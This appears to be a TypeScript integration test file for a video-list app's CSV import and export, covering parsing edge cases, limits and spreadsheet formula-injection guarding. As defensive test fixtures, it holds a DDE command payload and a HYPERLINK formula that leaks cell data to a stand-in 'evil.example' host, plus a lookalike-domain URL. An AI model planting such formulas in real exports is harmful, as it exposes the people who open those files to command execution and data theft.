import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import type { Video } from "../../src/shared/schemas/videos";
import {
  addVideos,
  allVideos,
  call,
  callJson,
  createList,
  expectErrorResponse,
  importCsv,
  setVideoColumns,
  signUp,
  ytId,
} from "./helpers";

let token: string;
beforeAll(async () => {
  ({ token } = await signUp("csv"));
});

const newList = async (name = "Imports") => (await createList(token, { name })).id;
const videoCount = async (listId: string) =>
  (await callJson(`/api/lists/${listId}`, { token, expect: 200 })).videoCount;
const youtubeIds = async (listId: string) => (await allVideos(token, listId)).map((video) => video.youtubeId).sort();

async function imported(res: Response) {
  const text = await res.text();
  expect(res.status, text).toBe(200);
  return JSON.parse(text) as {
    added: number;
    duplicates: number;
    invalid: { input: string; line: number; reason: string }[];
  };
}

describe("CSV import", () => {
  it.each(["multipart", "raw"] as const)("imports a %s upload and reports counts", async (as) => {
    const listId = await newList();
    const csv = `url\nhttps://www.youtube.com/watch?v=${ytId(1)}\nhttps://youtu.be/${ytId(2)}\n`;
    expect(await imported(await importCsv(token, listId, csv, as))).toEqual({ added: 2, duplicates: 0, invalid: [] });
    expect(await youtubeIds(listId)).toEqual([ytId(1), ytId(2)]);
    const videos = await allVideos(token, listId);
    expect(
      videos.every((video) => video.status === "pending" && video.url.startsWith("https://www.youtube.com/watch?v=")),
    ).toBe(true);
  });

  it("accepts a UTF-8 BOM before the header", async () => {
    const listId = await newList();
    const csv = `\uFEFFurl,title\n${ytId(1)},Caf\u00e9\n`;
    expect(await imported(await importCsv(token, listId, csv))).toEqual({ added: 1, duplicates: 0, invalid: [] });
  });

  it("reads CRLF line endings with the right line numbers", async () => {
    const listId = await newList();
    const csv = `url\r\n${ytId(1)}\r\nbad-one\r\n${ytId(2)}\r\n`;
    const result = await imported(await importCsv(token, listId, csv, "raw"));
    expect(result).toEqual({
      added: 2,
      duplicates: 0,
      invalid: [{ input: "bad-one", line: 3, reason: expect.any(String) }],
    });
  });

  it("keeps quoted commas, quotes and line breaks inside one field, and counts the physical lines", async () => {
    const listId = await newList();
    const csv = [
      "title,url,notes",
      `"Hello, world",https://youtu.be/${ytId(1)},"say ""hi"""`,
      `"two`,
      `lines, really",https://www.youtube.com/watch?v=${ytId(2)}&t=10,`,
      `"a, b",not a video,""`,
      "",
    ].join("\n");
    const result = await imported(await importCsv(token, listId, csv));
    expect(result).toEqual({
      added: 2,
      duplicates: 0,
      invalid: [{ input: "not a video", line: 5, reason: expect.any(String) }],
    });
    expect(await youtubeIds(listId)).toEqual([ytId(1), ytId(2)]);
  });

  it.each([
    ["URL", `Title,URL\nx,https://youtu.be/${ytId(1)}\n`],
    ["Video_ID", `Video_ID,Title\n${ytId(1)},x\n`],
    [" url (padded)", ` url ,title\n${ytId(1)},x\n`],
    ["video_id when url is blank", `url,video_id\n,${ytId(1)}\n`],
    ["semicolons (Excel)", `title;url\nx;https://youtu.be/${ytId(1)}\n`],
  ])("finds the column: header %s", async (_, csv) => {
    const listId = await newList();
    expect(await imported(await importCsv(token, listId, csv))).toEqual({ added: 1, duplicates: 0, invalid: [] });
    expect(await youtubeIds(listId)).toEqual([ytId(1)]);
  });

  it("reports a mix of good, bad and duplicate rows by file line", async () => {
    const listId = await newList();
    await addVideos(token, listId, [ytId(9)]);
    const csv = [
      "url,title", // 1
      `https://www.youtube.com/watch?v=${ytId(1)},first`, // 2 added
      "https://vimeo.com/12345,not youtube", // 3 invalid
      "", // 4 blank, skipped
      `https://youtu.be/${ytId(1)},same video again`, // 5 duplicate inside the file
      `${ytId(9)},already in the list`, // 6 duplicate of an existing video
      `${ytId(2)},second`, // 7 added
      "https://youtube.com.evil.com/watch?v=dQw4w9WgXcQ,lookalike", // 8 invalid
      `"https://www.youtube.com/shorts/${ytId(3)}","quoted"`, // 9 added
    ].join("\r\n");
    const result = await imported(await importCsv(token, listId, csv));
    expect(result.added).toBe(3);
    expect(result.duplicates).toBe(2);
    expect(result.invalid).toEqual([
      { input: "https://vimeo.com/12345", line: 3, reason: expect.any(String) },
      { input: "https://youtube.com.evil.com/watch?v=dQw4w9WgXcQ", line: 8, reason: expect.any(String) },
    ]);
    expect(await youtubeIds(listId)).toEqual([ytId(1), ytId(2), ytId(3), ytId(9)]);
  });

  it("refuses a file that is not UTF-8 with 422, adding nothing", async () => {
    const listId = await newList();
    // "url\n<id>\nCaf\xe9": Latin-1, where é is a lone 0xE9 byte.
    const bytes = new Uint8Array([...new TextEncoder().encode(`url\n${ytId(1)}\nCaf`), 0xe9, 0x0a]);
    const error = await expectErrorResponse(await importCsv(token, listId, bytes), 422, "validation_failed");
    expect(error.message).toMatch(/UTF-8/);
    expect(await videoCount(listId)).toBe(0);
  });

  it.each([
    ["no url or video_id column", `link,title\n${ytId(1)},x\n`],
    ["an empty file", ""],
    ["only blank lines", "\n\n\r\n"],
  ])("refuses %s with 422", async (_, csv) => {
    const listId = await newList();
    await expectErrorResponse(await importCsv(token, listId, csv), 422, "validation_failed");
    expect(await videoCount(listId)).toBe(0);
  });

  it("refuses a multipart upload without a file field with 422", async () => {
    const listId = await newList();
    const form = new FormData();
    form.set("csv", new File([`url\n${ytId(1)}\n`], "v.csv"));
    const error = await expectErrorResponse(
      await call(`/api/lists/${listId}/videos/import`, { token, method: "POST", raw: form }),
      422,
      "validation_failed",
    );
    expect(error.details).toEqual([{ path: "file", message: expect.any(String) }]);
  });

  it.each(["multipart", "raw"] as const)("refuses a 6 MB %s file with 413, adding nothing", async (as) => {
    const listId = await newList();
    const csv = `url,padding\n${ytId(1)},${"x".repeat(6 * 1024 * 1024)}\n`;
    await expectErrorResponse(await importCsv(token, listId, csv, as), 413, "payload_too_large");
    expect(await videoCount(listId)).toBe(0);
  });

  const rows = (count: number) =>
    `video_id\n${Array.from({ length: count }, (_, i) => ytId(100_000 + i)).join("\n")}\n`;

  it("refuses 10,001 data rows with 413, adding nothing", async () => {
    const listId = await newList();
    const error = await expectErrorResponse(await importCsv(token, listId, rows(10_001)), 413, "payload_too_large");
    expect(error.message).toMatch(/10,000/);
    expect(await videoCount(listId)).toBe(0);
  });

  it("imports 10,000 rows, and re-importing its export adds none of them again", async () => {
    const listId = await newList("Ten thousand");
    expect(await imported(await importCsv(token, listId, rows(10_000), "raw"))).toEqual({
      added: 10_000,
      duplicates: 0,
      invalid: [],
    });
    expect(await videoCount(listId)).toBe(10_000);

    const exported = await (await call(`/api/lists/${listId}/videos/export?format=csv`, { token })).text();
    expect(exported.split("\r\n").filter((line) => line !== "")).toHaveLength(10_001);
    expect(await imported(await importCsv(token, listId, exported))).toEqual({
      added: 0,
      duplicates: 10_000,
      invalid: [],
    });
    expect(await videoCount(listId)).toBe(10_000);
  });
});

describe("export", () => {
  const fields = [
    { key: "level", label: "Level", type: "enum", options: ["easy", "hard"] },
    { key: "topics", label: "Topics", type: "tags" },
    { key: "has_code", label: "Has code", type: "boolean" },
    { key: "score", label: "Score", type: "number" },
  ];
  let listId: string;
  let videos: Video[];

  beforeAll(async () => {
    listId = (await createList(token, { name: "Talks & Demos 2026", fields })).id;
    videos = await addVideos(
      token,
      listId,
      Array.from({ length: 12 }, (_, i) => ytId(i)),
    );
    const byYt = new Map(videos.map((video) => [video.youtubeId, video.id]));
    await setVideoColumns([
      {
        id: byYt.get(ytId(0))!,
        set: {
          status: "completed",
          title: 'He said "hi", then left',
          channel_title: "=cmd|' /C calc'!A0",
          description: "Line one\nLine two, with a comma\r\n0:00 Intro",
          duration_seconds: 754,
          view_count: 1234567,
          published_at: "2024-03-01T12:00:00.000Z",
          tags: ["rust", "talk; keynote"],
          chapters: [{ startSeconds: 0, title: "Intro" }],
          fields: { level: "hard", topics: ["async", "traits"], has_code: true, score: 4.5 },
          processed_at: "2026-01-01T00:00:00.000Z",
        },
      },
      {
        id: byYt.get(ytId(1))!,
        set: { status: "failed", error: "Video unavailable", title: "  padded  " },
      },
    ]);
    videos = await allVideos(token, listId);
  });

  it("CSV: an RFC 4180 attachment with a url column and one column per field", async () => {
    const res = await call(`/api/lists/${listId}/videos/export?format=csv`, { token });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="[^"/\\]+\.csv"$/);
    const text = await res.text();

    // Every record ends with CRLF; a bare LF only appears inside a quoted field.
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text).toContain('"He said ""hi"", then left"');
    const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const header = parsed.meta.fields!;
    expect(header[0]).toBe("url");
    expect(header).toEqual(expect.arrayContaining(["video_id", "title", "tags"]));
    expect(header.filter((name) => name.startsWith("fields."))).toEqual([
      "fields.level",
      "fields.topics",
      "fields.has_code",
      "fields.score",
    ]);
    expect(new Set(header).size).toBe(header.length);

    expect(parsed.data).toHaveLength(12);
    expect(parsed.data.map((row) => row.url).sort()).toEqual(videos.map((video) => video.url).sort());
    const rich = parsed.data.find((row) => row.video_id === ytId(0))!;
    expect(rich).toMatchObject({
      url: `https://www.youtube.com/watch?v=${ytId(0)}`,
      title: 'He said "hi", then left',
      description: "Line one\nLine two, with a comma\r\n0:00 Intro",
      tags: "rust; talk; keynote",
      "fields.level": "hard",
      "fields.topics": "async; traits",
      "fields.has_code": "true",
      "fields.score": "4.5",
    });
    // A spreadsheet formula in the data is exported behind a ' so a spreadsheet shows it as text.
    expect(rich.channel_title).toBe("'=cmd|' /C calc'!A0");
    const padded = parsed.data.find((row) => row.video_id === ytId(1))!;
    expect(padded).toMatchObject({ title: "  padded  ", error: "Video unavailable", "fields.level": "" });
  });

  it("JSON: an attachment holding every Video, as the API serves them", async () => {
    const res = await call(`/api/lists/${listId}/videos/export?format=json`, { token });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="[^"]+\.json"$/);
    const exported: Video[] = await res.json();
    const byId = (a: Video, b: Video) => a.id.localeCompare(b.id);
    expect([...exported].sort(byId)).toEqual([...videos].sort(byId));
    const rich = exported.find((video) => video.youtubeId === ytId(0))!;
    expect(rich.fields).toEqual({ level: "hard", topics: ["async", "traits"], has_code: true, score: 4.5 });
    expect(rich.tags).toEqual(["rust", "talk; keynote"]);
  });

  it("an empty list exports a header-only CSV and an empty JSON array", async () => {
    const empty = await createList(token, { name: "Empty", fields: [{ key: "a", label: "A", type: "text" }] });
    const csv = await (await call(`/api/lists/${empty.id}/videos/export?format=csv`, { token })).text();
    expect(csv.split("\r\n")).toEqual([expect.stringMatching(/^url,.*,fields\.a$/), ""]);
    const json = await (await call(`/api/lists/${empty.id}/videos/export?format=json`, { token })).json();
    expect(json).toEqual([]);
  });

  it("defaults to CSV", async () => {
    const res = await call(`/api/lists/${listId}/videos/export`, { token });
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    await res.body?.cancel();
  });

  it("round trip: export → import into the same list adds 0; into a new list adds every video", async () => {
    const csv = await (await call(`/api/lists/${listId}/videos/export?format=csv`, { token })).text();
    expect(await imported(await importCsv(token, listId, csv))).toEqual({ added: 0, duplicates: 12, invalid: [] });
    expect(await videoCount(listId)).toBe(12);

    const fresh = await newList("Copy");
    expect(await imported(await importCsv(token, fresh, csv, "raw"))).toEqual({
      added: 12,
      duplicates: 0,
      invalid: [],
    });
    expect(await youtubeIds(fresh)).toEqual(await youtubeIds(listId));
  });
});

describe("formula-safe CSV export", () => {
  const fields = [
    { key: "summary", label: "Summary", type: "text" },
    { key: "speakers", label: "Speakers", type: "tags" },
    { key: "delta", label: "Delta", type: "number" },
  ];
  const HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+SUM(1,1)",
    "-2+3",
    "@cmd",
    "\tTabbed",
    "\rReturn",
  ];
  // A real YouTube id may start with "-": the guard must not cost that video its way back in.
  const DASH_ID = "-dashFirst1";

  it("guards every hostile title, tag and AI value, JSON keeps them as they are, and both files re-import as the same videos", async () => {
    const listId = (await createList(token, { name: "Hostile", fields })).id;
    const ids = [DASH_ID, ...HOSTILE.map((_, i) => ytId(500 + i))];
    const added = await addVideos(token, listId, ids);
    await setVideoColumns(
      added.map((video, i) => {
        const text = HOSTILE[i % HOSTILE.length] as string;
        return {
          id: video.id,
          set: {
            status: "completed",
            title: text,
            channel_title: `${text} channel`,
            description: `${text}\nsecond line`,
            tags: [text, "plain"],
            fields: { summary: text, speakers: [text], delta: -4 },
          },
        };
      }),
    );

    const csv = await (await call(`/api/lists/${listId}/videos/export?format=csv`, { token })).text();
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(ids.length);
    for (const row of parsed.data) {
      for (const [column, cell] of Object.entries(row)) {
        // No text cell a spreadsheet would evaluate: each starts with the guard or with something
        // harmless (a negative number is a value, not a formula).
        const formulaLike = /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
        expect(formulaLike, `${column}: ${JSON.stringify(cell)}`).toBe(false);
      }
      expect(row.title).toMatch(/^'/);
      expect(row["fields.summary"]).toBe(row.title);
      expect(row["fields.delta"]).toBe("-4");
    }
    expect(parsed.data.find((row) => row.url?.endsWith(DASH_ID))?.video_id).toBe(`'${DASH_ID}`);

    const json: Video[] = await (await call(`/api/lists/${listId}/videos/export?format=json`, { token })).json();
    expect(json.map((video) => video.title).sort()).toEqual(added.map((_, i) => HOSTILE[i % HOSTILE.length]).sort());

    // Back into the same list: nothing new. Into a fresh list, by the video_id column alone: every video.
    expect(await imported(await importCsv(token, listId, csv))).toEqual({
      added: 0,
      duplicates: ids.length,
      invalid: [],
    });
    const idOnly = Papa.unparse(parsed.data.map((row) => ({ video_id: row.video_id, title: row.title })));
    const fresh = await newList("Hostile copy");
    expect(await imported(await importCsv(token, fresh, idOnly))).toEqual({
      added: ids.length,
      duplicates: 0,
      invalid: [],
    });
    expect(await youtubeIds(fresh)).toEqual([...ids].sort());
  });
});
